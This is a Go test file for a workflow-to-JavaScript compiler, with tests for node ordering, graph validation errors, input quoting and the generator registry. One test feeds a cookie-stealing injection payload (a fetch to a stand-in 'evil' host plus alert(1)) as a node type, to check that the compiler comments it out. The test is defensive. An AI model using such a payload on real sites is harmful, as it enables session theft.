package compiler_test

import (
	"errors"
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/dukex/browserflow/pkg/compiler"
	"github.com/dukex/browserflow/pkg/models"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func node(id, nodeType string, settings map[string]any) *models.Node {
	return &models.Node{ID: id, Type: nodeType, Settings: settings}
}

func edge(source, target string) *models.Edge {
	return &models.Edge{ID: source + "->" + target, Source: source, Target: target}
}

func ids(nodes []*models.Node) []string {
	out := make([]string, 0, len(nodes))
	for _, n := range nodes {
		out = append(out, n.ID)
	}

	return out
}

func TestCompile_ClickThenType(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("start", compiler.NodeTypeStart, nil),
		node("click", compiler.NodeTypeClick, map[string]any{"selector": "#A"}),
		node("type", compiler.NodeTypeType, map[string]any{"selector": "#B", "value": "hello"}),
	}
	edges := []*models.Edge{edge("start", "click"), edge("click", "type")}

	script, err := compiler.NewDefault().Compile(nodes, edges)
	require.NoError(t, err)

	clickAt := strings.Index(script, `await page.click("#A"`)
	typeAt := strings.Index(script, `await page.type("#B", "hello"`)

	require.NotEqual(t, -1, clickAt, script)
	require.NotEqual(t, -1, typeAt, script)
	assert.Less(t, clickAt, typeAt)
	assert.True(t, strings.HasPrefix(script, "module.exports = async function runWorkflow("))
	assert.True(t, strings.HasSuffix(script, "};\n"))
}

func TestCompile_UnsupportedNodeType(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("start", compiler.NodeTypeStart, nil),
		node("future", "quantum_click", map[string]any{"selector": "#x"}),
	}

	script, err := compiler.NewDefault().Compile(nodes, []*models.Edge{edge("start", "future")})
	require.NoError(t, err)
	assert.Contains(t, script, "// Unsupported node type: quantum_click")
	assert.Contains(t, script, "// node future (quantum_click)")

	injected := "custom\nawait fetch('http://evil/'+document.cookie);\u2028alert(1);"

	script, err = compiler.NewDefault().Compile([]*models.Node{node("n", injected, nil)}, nil)
	require.NoError(t, err)

	for _, line := range strings.Split(script, "\n") {
		if strings.Contains(line, "fetch(") || strings.Contains(line, "alert(") {
			assert.True(t, strings.HasPrefix(strings.TrimSpace(line), "//"), line)
		}
	}

	assert.NotContains(t, script, "\u2028")
	assert.Contains(t, script, "// Unsupported node type: custom await fetch('http://evil/'+document.cookie); alert(1);")
}

func TestCompile_EndDoesNotCutLaterChains(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("a", compiler.NodeTypeStart, nil),
		node("a-end", compiler.NodeTypeEnd, nil),
		node("b", compiler.NodeTypeLog, map[string]any{"message": "second chain"}),
	}

	script, err := compiler.NewDefault().Compile(nodes, []*models.Edge{edge("a", "a-end")})
	require.NoError(t, err)

	logAt := strings.Index(script, `console.log("second chain");`)
	require.NotEqual(t, -1, logAt, script)
	assert.Less(t, strings.Index(script, "// node a-end (end)"), logAt)
	assert.Equal(t, 1, strings.Count(script, "return vars;"))
	assert.True(t, strings.HasSuffix(script, "  return vars;\n};\n"))
}

func TestCompile_DiamondFirstPathWins(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("a", compiler.NodeTypeStart, nil),
		node("b", compiler.NodeTypeLog, map[string]any{"message": "b"}),
		node("c", compiler.NodeTypeLog, map[string]any{"message": "c"}),
		node("d", compiler.NodeTypeLog, map[string]any{"message": "d"}),
	}
	edges := []*models.Edge{edge("a", "b"), edge("a", "c"), edge("b", "d"), edge("c", "d")}

	c := compiler.NewDefault()

	ordered, err := c.Order(nodes, edges)
	require.NoError(t, err)
	assert.Equal(t, []string{"a", "b", "d", "c"}, ids(ordered))

	script, err := c.Compile(nodes, edges)
	require.NoError(t, err)
	assert.Equal(t, 1, strings.Count(script, `console.log("d");`))
}

func TestCompile_EdgeListOrder(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("a", compiler.NodeTypeStart, nil),
		node("b", compiler.NodeTypeWait, nil),
		node("c", compiler.NodeTypeReload, nil),
	}

	ordered, err := compiler.NewDefault().Order(nodes, []*models.Edge{edge("a", "c"), edge("a", "b")})
	require.NoError(t, err)
	assert.Equal(t, []string{"a", "c", "b"}, ids(ordered))
}

func TestCompile_MultipleStartNodesInArrayOrder(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("y", compiler.NodeTypeLog, map[string]any{"message": "y"}),
		node("x", compiler.NodeTypeLog, map[string]any{"message": "x"}),
		node("x2", compiler.NodeTypeLog, map[string]any{"message": "x2"}),
	}

	script, err := compiler.NewDefault().Compile(nodes, []*models.Edge{edge("x", "x2")})
	require.NoError(t, err)

	assert.Less(t, strings.Index(script, `"y"`), strings.Index(script, `"x"`))
	assert.Less(t, strings.Index(script, `"x"`), strings.Index(script, `"x2"`))
}

func TestCompile_GraphErrors(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name  string
		nodes []*models.Node
		edges []*models.Edge
		want  error
	}{
		{
			name: "empty graph",
			want: compiler.ErrEmptyGraph,
		},
		{
			name:  "no start node",
			nodes: []*models.Node{node("a", "click", nil), node("b", "click", nil)},
			edges: []*models.Edge{edge("a", "b"), edge("b", "a")},
			want:  compiler.ErrNoStartNode,
		},
		{
			name:  "reachable cycle",
			nodes: []*models.Node{node("s", "start", nil), node("a", "click", nil), node("b", "click", nil)},
			edges: []*models.Edge{edge("s", "a"), edge("a", "b"), edge("b", "a")},
			want:  compiler.ErrCycle,
		},
		{
			name:  "unreachable cycle",
			nodes: []*models.Node{node("s", "start", nil), node("a", "click", nil), node("b", "click", nil)},
			edges: []*models.Edge{edge("a", "b"), edge("b", "a")},
			want:  compiler.ErrCycle,
		},
		{
			name:  "self edge",
			nodes: []*models.Node{node("s", "start", nil), node("a", "click", nil)},
			edges: []*models.Edge{edge("s", "a"), edge("a", "a")},
			want:  compiler.ErrSelfEdge,
		},
		{
			name:  "dangling target",
			nodes: []*models.Node{node("s", "start", nil)},
			edges: []*models.Edge{edge("s", "ghost")},
			want:  compiler.ErrDanglingEdge,
		},
		{
			name:  "dangling source",
			nodes: []*models.Node{node("s", "start", nil)},
			edges: []*models.Edge{edge("ghost", "s")},
			want:  compiler.ErrDanglingEdge,
		},
		{
			name:  "duplicate node",
			nodes: []*models.Node{node("s", "start", nil), node("s", "click", nil)},
			want:  compiler.ErrDuplicateNode,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			_, err := compiler.NewDefault().Compile(tt.nodes, tt.edges)
			require.Error(t, err)
			require.ErrorIs(t, err, tt.want)
			assert.True(t, compiler.IsGraphError(err))

			var graphErr *compiler.GraphError
			assert.ErrorAs(t, err, &graphErr)

			// Cycles are only found while ordering.
			structural := compiler.Validate(tt.nodes, tt.edges)
			if errors.Is(tt.want, compiler.ErrCycle) {
				assert.NoError(t, structural)
			} else {
				assert.ErrorIs(t, structural, tt.want)
			}
		})
	}
}

func TestCompile_RandomDAGsVisitEachNodeOnce(t *testing.T) {
	t.Parallel()

	rng := rand.New(rand.NewSource(42))
	c := compiler.NewDefault()

	for iteration := 0; iteration < 200; iteration++ {
		size := 1 + rng.Intn(12)
		nodes := make([]*models.Node, 0, size)

		for i := 0; i < size; i++ {
			nodes = append(nodes, node(fmt.Sprintf("n%d", i), compiler.NodeTypeWait, nil))
		}

		// Edges only go from lower to higher index, so n0 is a start node and
		// the graph is acyclic.
		var edges []*models.Edge

		for i := 0; i < size; i++ {
			for j := i + 1; j < size; j++ {
				if rng.Intn(3) == 0 {
					edges = append(edges, edge(nodes[i].ID, nodes[j].ID))
				}
			}
		}

		ordered, err := c.Order(nodes, edges)
		require.NoError(t, err)
		require.Len(t, ordered, size)

		seen := make(map[string]bool, size)
		for _, n := range ordered {
			require.False(t, seen[n.ID], "node %s visited twice", n.ID)
			seen[n.ID] = true
		}

		script, err := c.Compile(nodes, edges)
		require.NoError(t, err)
		assert.Equal(t, size, strings.Count(script, "// node "))

		// Pre-order: every fragment appears in the same order as Order returns.
		last := -1
		for _, n := range ordered {
			at := strings.Index(script, compiler.FragmentMarker(n))
			require.Greater(t, at, last)
			last = at
		}
	}
}

func TestCompile_QuotesUserInput(t *testing.T) {
	t.Parallel()

	nodes := []*models.Node{
		node("t", compiler.NodeTypeType, map[string]any{"selector": `input[name="q"]`, "value": "it's \"quoted\"\n"}),
	}

	script, err := compiler.NewDefault().Compile(nodes, nil)
	require.NoError(t, err)
	assert.Contains(t, script, `await page.type("input[name=\"q\"]", "it's \"quoted\"\n", { delay: 0 });`)
}

func TestDefaultRegistry_Types(t *testing.T) {
	t.Parallel()

	types := compiler.DefaultRegistry().Types()
	assert.Len(t, types, 40)
	assert.Contains(t, types, compiler.NodeTypeReadTable)
	assert.Contains(t, types, compiler.NodeTypeWriteTable)
	assert.Contains(t, types, compiler.NodeTypeAIAgent)
}

func TestDefaultRegistry_EveryGeneratorRenders(t *testing.T) {
	t.Parallel()

	c := compiler.NewDefault()

	for _, nodeType := range c.Registry().Types() {
		script, err := c.Compile([]*models.Node{node("n", nodeType, nil)}, nil)
		require.NoError(t, err, nodeType)
		assert.NotContains(t, script, "<no value>", nodeType)
		assert.NotContains(t, script, "Unsupported node type", nodeType)
	}
}

func TestRegistry_RegisterCustomGenerator(t *testing.T) {
	t.Parallel()

	registry := compiler.NewRegistry()
	require.NoError(t, registry.Register(compiler.Generator{Type: "hello", Template: `console.log("hi", {{js .S.name}});`}))
	require.Error(t, registry.Register(compiler.Generator{Type: "broken", Template: `{{ .S.name `}))
	require.Error(t, registry.Register(compiler.Generator{Template: "x"}))

	script, err := compiler.New(registry).Compile([]*models.Node{node("n", "hello", map[string]any{"name": "bob"})}, nil)
	require.NoError(t, err)
	assert.Contains(t, script, `console.log("hi", "bob");`)
}
